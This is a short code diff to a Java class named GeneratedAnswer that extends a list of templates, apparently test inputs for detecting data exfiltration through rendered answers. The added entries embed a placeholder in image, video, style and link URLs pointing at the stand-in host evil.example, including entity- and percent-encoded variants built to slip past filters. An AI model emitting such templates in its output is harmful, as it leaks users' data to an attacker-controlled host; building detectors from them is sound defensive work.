@@ -136,7 +136,14 @@ final class GeneratedAnswer {
     "[x](/p?%s)",
     "<img src=\"https://evil.example/?q=a %s\">",
     "<a href='/x?%s'>",
-    "https://%s.evil.example/"
+    "https://%s.evil.example/",
+    "<img src = '/p?a %s'>",
+    "<video poster=\"/p?a %s\">",
+    "<p style=\"background: url( /p?a %s)\">",
+    "https&colon;&#x2f;&#47;evil.example/%s",
+    "https%%3A%%2F%%2Fevil.example/%s",
+    "<skype:a?%s>",
+    "evil.example/%s"
   };
 
   private final Random random;
